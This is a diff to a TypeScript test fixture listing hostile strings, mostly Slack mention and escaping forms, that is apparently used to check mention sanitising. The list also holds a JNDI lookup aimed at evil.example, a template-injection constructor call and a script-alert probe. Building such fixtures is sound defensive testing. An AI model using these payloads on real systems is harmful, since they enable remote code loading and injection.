@@ -1,12 +1,15 @@
-/** What may stand in a tag, a host name or the output of a command. */
+/**
+ * What may stand in a tag, a host name or the output of a command. Who is mentioned in it is mentioned by nothing of
+ * ours in the tests that use it, so that a mention which gets through shows.
+ */
 export const HOSTILE: readonly string[] = [
   '<!channel>',
   '<!here|here>',
   '<!everyone>',
-  '<@U0AISHAAPP>',
-  '<@U0AISHAAPP|tom>',
-  '<!subteam^S0APPROVER>',
-  '<!subteam^S0APPROVER|@patch-approvers>',
+  '<@U0OLGAOUTS>',
+  '<@U0TOMAPPRV|aisha>',
+  '<!subteam^S0ONCALLDB>',
+  '<!subteam^S0REQUESTR|@patch-approvers>',
   '<#C0PATCHPRD>',
   '@channel @here @everyone',
   '&lt;!channel&gt;',
@@ -19,7 +22,7 @@ export const HOSTILE: readonly string[] = [
   '`code` <!channel> `code`',
   '``` <!channel> ```',
   '`<!here>',
-  '```\n<@U0AISHAAPP>',
+  '```\n<@U0OLGAOUTS>',
   '*bold* _it_ ~gone~',
   ':white_check_mark: approved by :aisha:',
   '> quoted\n> ✅ Completed',
@@ -39,7 +42,7 @@ export const HOSTILE: readonly string[] = [
   '"\'\\{}[]()|^$',
   '<!date^1700000000^{date}^https://evil.example|now>',
   '$\u007bjndi:ldap://evil.example/a}',
-  '\ue000U0AISHAAPP\ue001',
+  '\ue000U0OLGAOUTS\ue001',
   '{{constructor.constructor("x")()}}',
   '<script>alert(1)</script>',
   'x'.repeat(5000),
